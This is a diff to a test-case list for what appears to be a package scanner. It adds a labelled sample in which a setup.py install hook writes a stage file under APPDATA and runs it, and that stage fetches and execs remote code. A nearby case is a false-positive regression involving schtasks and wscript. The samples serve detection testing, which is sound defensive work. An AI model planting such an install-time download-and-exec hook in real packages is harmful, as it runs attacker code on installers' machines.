@@ -220,6 +220,11 @@ CASES = [
                        "    subprocess.run(['schtasks', '/create', '/tn', 'app', '/tr', str(vbs)])\n"
                        "    subprocess.run(['wscript', str(vbs)])\n"},
      "code.decode-exec", None, "FP regression: a scheduler script for a script host, written and run when asked"),
+    (setup_py(INSTALL_CLASS.format(
+        body="open(os.getenv('APPDATA') + '\\\\cfg.py', 'w').write(STAGE)\n"
+             "        os.system('python ' + os.getenv('APPDATA') + '\\\\cfg.py')"
+    ).replace("class Hook", "import os\nSTAGE = 'import requests\\nexec(requests.get(U).text)'\nclass Hook")),
+     "code.download-exec", C, "a stage written under APPDATA and run by its file name at install"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
